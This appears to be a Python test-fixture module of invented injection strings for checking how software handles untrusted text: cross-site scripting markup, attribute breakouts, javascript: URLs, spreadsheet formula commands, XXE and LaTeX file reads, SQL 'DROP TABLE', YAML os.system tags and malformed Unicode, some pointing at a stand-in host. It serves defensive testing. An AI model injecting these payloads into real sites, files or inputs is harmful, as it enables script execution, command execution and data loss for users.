"""Strings that try to be more than a text. All are invented here, of the kinds that public lists hold.

The payloads set `window.ran`, call a dialog, ask for a file or lead away: a browser run notices each.
"""

from __future__ import annotations

_RUN = "window.ran=1"

MARKUP = (
    f"</script><script>{_RUN}</script>",
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f"<<script>{_RUN}//<</script>",
    '<script src="https://outside.example/a.js"></script>',
    f"<img src=nowhere.png onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext></p><style><!--</style><img title='--&gt;<img src=no onerror={_RUN}>'>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<meta http-equiv="refresh" content="0; url=https://outside.example/">',
    '<base href="https://outside.example/"><a href="x">y</a>',
    '<form action="https://outside.example/"><button>go</button>',
    '<link rel="stylesheet" href="https://outside.example/a.css">',
    "<style>*{background:url(https://outside.example/b.png)}</style>",
    '<object data="data:text/html,<script>parent.ran=1</script>"></object>',
    f"<template><script>{_RUN}</script></template><noscript><a t='</noscript><img src=n onerror={_RUN}>'>",
    f"<textarea></textarea><img src=no onerror={_RUN}></title></style>",
    "<plaintext><xmp><listing>",
    "<b>bold</b> <i>italic</i> <a href='/x'>link</a> <span>more</span>",
    f"<!--><img src=no onerror={_RUN}>-->",
    f"<![CDATA[ x ]]><?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]>&b;{_RUN}",
)
ATTRIBUTES = (
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f'x"><img src=no onerror={_RUN}>',
    f"x'><svg onload={_RUN}>",
    f"`onclick={_RUN}`",
    f'{{: onclick="{_RUN}" .c }}',
    f"{{% raw %}}{{{{ 7*7 }}}}${{7*7}}#{{7*7}}<%= {_RUN} %>",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVa\tScRiPt:{_RUN}//",
    f"&#106;avascript&colon;{_RUN}",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&x={_RUN}",
    "//outside.example/%0d%0aSet-Cookie:a=b",
    f"[x](javascript:{_RUN})",
    f"![x](x' onerror='{_RUN})",
    f"<javascript:{_RUN}>",
    "[[blogs/no-such-record|x]] [@nobody2020] *[HTML]: x",
    "https://outside.example/ 302\n/* https://outside.example/ 301!",
)
OTHER_FORMATS = (
    '=HYPERLINK("https://outside.example/?"&A1;"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    'a,"b";c\r\n=1+1',
    r"\input{/etc/hostname} 100% of $5 & #1_a ~b ^c \write18{ls}",
    'marks "`so"\' and `code`"` `more`',
    "ends } here, @article{evil, title={Evil}}",
    "opens { here, author = {{Evil, Ann",
    "AU  - Evil, Ann\nER  - \nTY  - BOOK",
    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:evil",
    "a; b, c\\n d\\",
    "&lt;b&gt; &amp; &amp;amp; &#0; &nbsp; %3Cscript%3E \\u003cscript\\u003e",
    "'; DROP TABLE records; -- \" OR 1=1",
    "--- # a: [b, {c}] !!python/object:os.system *a &b",
    "wzxhzdk:0 klzzwxh:0001 {{ content }}",
)
CHARACTERS = (
    "\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0639\u0631\u0628\u064a\u0629 in one line",
    "Emoji \U0001f389 \U0001f469\u200d\U0001f52c \U0001f3f4\U000e0067\U000e007f e\u0301 Z\u0351\u036b\u0343",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02ba\u02b9",
    "private use \ue000b\ue001 \ue002 \uf8ff \U0010fffd",
    "one\u2028two\u2029three\u0085four\u00a0five\u3000six",
    "noncharacters \ufdd0/blogs/\ufdd1 \ufdd20\ufdd3 \ufdd6",
    "end of plane \uffff \ufffe \U0001ffff",
    "bell \x07 escape \x1b[31m null \x00 start \x02 end \x03",
    "second controls \x9b31m \x9d \x80",
    "bare delete \x7f sign",
    "__\u03bb\u03cc\u03b3\u03bf\u03c2 \u00a7__",
    "lone half \ud83d of a pair",
    "CON",
    "null",
    "   \t ",
    "x",
)
STRINGS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *OTHER_FORMATS, *CHARACTERS)
